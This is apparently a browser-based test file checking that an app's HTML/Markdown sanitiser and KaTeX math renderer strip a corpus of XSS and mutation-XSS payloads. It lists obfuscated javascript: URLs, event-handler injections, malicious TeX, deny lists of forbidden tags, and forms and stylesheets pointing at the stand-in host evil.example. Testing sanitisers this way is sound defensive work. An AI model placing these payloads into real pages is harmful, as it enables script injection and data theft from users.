/** The sanitiser against a corpus of attacks, in a real browser because the attacks target its parser. */
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { launchBrowser } from './support/browser.ts';
import { bundleForBrowser } from './support/bundle.ts';

const attacks = [
	'<script>attack()</script>',
	'<img src=x onerror=attack()>',
	'<svg onload=attack()><script>attack()</script></svg>',
	'<svg><a xlink:href="javascript:attack()"><text>x</text></a></svg>',
	'<a href="javascript:attack()">x</a>',
	'<a href="java&#10;script:attack()">x</a>',
	'<a href="&#x6A;avascript:attack()">x</a>',
	'<a href=" &#14; javascript:attack()">x</a>',
	'<a href="data:text/html,<script>attack()</script>">x</a>',
	'<iframe src="javascript:parent.attack()"></iframe>',
	'<iframe srcdoc="<script>parent.attack()</script>"></iframe>',
	'<object data="javascript:attack()"></object><embed src="javascript:attack()">',
	'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attack()&gt;">',
	'<form><math><mtext></form><form><mglyph><style></math><img src onerror=attack()>',
	'<form action="https://evil.example"><input name="password" autofocus onfocus=attack()><button formaction="javascript:attack()">x</button></form>',
	'<p style="position:fixed;inset:0;background:url(https://evil.example/a)">x</p>',
	'<style>@import "https://evil.example/a.css";</style>',
	'<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel="stylesheet" href="//evil.example/a.css">',
	'<img name="body" id="getElementById" src="x">',
	'<details open ontoggle=attack()>x</details>',
	'<video src=x onerror=attack()></video><audio src=x onerror=attack()></audio>',
	'<video><source onerror=attack()></video>',
	'<img srcset="https://evil.example/a 1x" src="javascript:attack()">',
	'<template><script>attack()</script></template>',
	'<noscript><p title="</noscript><img src=x onerror=attack()>"></noscript>',
	'<div ping="https://evil.example" slot="s" data-x="1">x</div>',
	'<xss contenteditable onblur=attack() autofocus tabindex=1>x</xss>',
	'<marquee onstart=attack()>x</marquee>',
	'[x](javascript:attack())',
	'![x](javascript:attack())',
	'<javascript:attack()>',
	'[x](  JaVaScRiPt:attack())',
	'[x](<java\tscript:attack()>)',
	'```html" onmouseover="attack()\nx\n```',
];

const hostileMath = [
	'\\href{javascript:attack()}{x}',
	'\\url{javascript:attack()}',
	'\\includegraphics{https://evil.example/a.png}',
	'\\htmlId{root}{x}\\htmlClass{shell}{x}\\htmlStyle{position:fixed}{x}\\htmlData{x=1}{x}',
	'<img src=x onerror=attack()>',
	'\\text{<script>attack()</script>}',
	'\\def\\a{\\a\\a}\\a',
	'\\rule{99999em}{99999em}',
	'\\unknown{',
];

const FORBIDDEN =
	'script, iframe, object, embed, style, form, input, button, base, meta, link, svg, math, video, audio, source, template, noscript, xss';
const FORBIDDEN_ATTRIBUTE = /^(on.*|style|id|name|srcset|ping|slot|data-.*|formaction|srcdoc|xlink:.*)$/;

let page: Page;
const requests: string[] = [];

declare global {
	interface Window {
		toRichHtml: (content: string, format: 'html' | 'markdown', place?: (path: string) => string) => Promise<string>;
		drawMath: (formula: { tex: string; display: boolean }) => string;
		attacked: boolean;
	}
}

beforeAll(async () => {
	const script = await bundleForBrowser('src/ui/rich-text/rich-html.ts');
	page = await (await launchBrowser()).newPage();
	await page.addScriptTag({ path: script });
	await page.addScriptTag({ path: await bundleForBrowser('src/ui/rich-text/draw-math.ts') });
	await page.evaluate(() => Object.assign(window, { attacked: false, attack: () => Object.assign(window, { attacked: true }) }));
	page.on('request', (request) => requests.push(request.url()));
});

afterAll(() => page?.context().close());

const safe = (content: string, format: 'html' | 'markdown'): Promise<string> =>
	page.evaluate(([text, kind]) => window.toRichHtml(text, kind), [content, format] as const);

/** Renders the HTML as the app does and returns the dangerous elements, attributes and URLs left in it. */
const show = (html: string) =>
	page.evaluate(
		async ([text, forbidden, attribute]) => {
			const holder = document.createElement('div');
			holder.innerHTML = text;
			document.body.append(holder);
			const found = [...holder.querySelectorAll('*')];
			const elements = found.filter((element) => element.matches(forbidden)).map((element) => element.tagName);
			const attributes = found.flatMap((element) => element.getAttributeNames().filter((name) => new RegExp(attribute).test(name)));
			const schemes = found.flatMap((element) =>
				[...element.attributes].filter(({ value }) => /^[\s\p{Cc}]*(java|vb)\s*script:|^data:text/iu.test(value)).map(({ value }) => value),
			);
			await new Promise((resolve) => requestAnimationFrame(resolve));
			holder.remove();
			return { elements, attributes, schemes, attacked: window.attacked };
		},
		[html, FORBIDDEN, FORBIDDEN_ATTRIBUTE.source] as const,
	);

test.each(attacks)('no dangerous markup is left of %s', async (attack) => {
	for (const format of ['html', 'markdown'] as const) {
		expect(await show(await safe(attack, format))).toEqual({ elements: [], attributes: [], schemes: [], attacked: false });
	}
	expect(requests.filter((url) => url.includes('evil'))).toEqual([]);
});

test.each(['html', 'markdown'] as const)('no dangerous markup is left in a long text of %s', async (format) => {
	const paragraph = '一段很长的正文，像老师写的通知。'.repeat(200);
	const text = attacks.map((attack) => `${paragraph}\n\n${attack}\n\n`).join('');
	const { elements, attributes, schemes, attacked } = await show(await safe(text, format));
	expect({ elements, attributes, schemes, attacked }).toEqual({ elements: [], attributes: [], schemes: [], attacked: false });
	expect(requests.filter((url) => url.includes('evil'))).toEqual([]);
});

test.each(hostileMath)('a formula renders only math: %s', async (tex) => {
	const html = await page.evaluate((formula) => window.drawMath({ tex: formula, display: true }), tex);
	const { elements, attacked } = await show(html);
	expect({ elements: elements.filter((name) => name !== 'math'), attacked }).toEqual({ elements: [], attacked: false });
	// KaTeX keeps the source in an annotation, which may contain anything.
	expect(html.replace(/<annotation[^>]*>[^<]*/g, '')).not.toMatch(/<(a|img|script)\b|id="root"|class="shell"|position:fixed|99999em/);
	expect(requests.filter((url) => url.includes('evil'))).toEqual([]);
});

test('harmless markup is kept', async () => {
	const html = '<h2>标题</h2><p>一段<strong>重点</strong></p><ul><li>一</li></ul><table><tbody><tr><td>格</td></tr></tbody></table>';
	expect(await safe(html, 'html')).toBe(html);
	expect(await safe('# 标题\n\n- 一\n- 二\n\n`code`', 'markdown')).toBe(
		'<h1>标题</h1>\n<ul>\n<li>一</li>\n<li>二</li>\n</ul>\n<p><code>code</code></p>\n',
	);
});

test('links open in a new tab, and pictures load lazily', async () => {
	expect(await safe('<a href="https://example.com" target="_self">官网</a>', 'html')).toBe(
		'<a href="https://example.com" target="_blank" rel="noopener noreferrer nofollow">官网</a>',
	);
	expect(await safe('![图](/images/a.png)', 'markdown')).toContain(
		'<img src="/images/a.png" alt="图" loading="lazy" decoding="async" referrerpolicy="no-referrer">',
	);
});
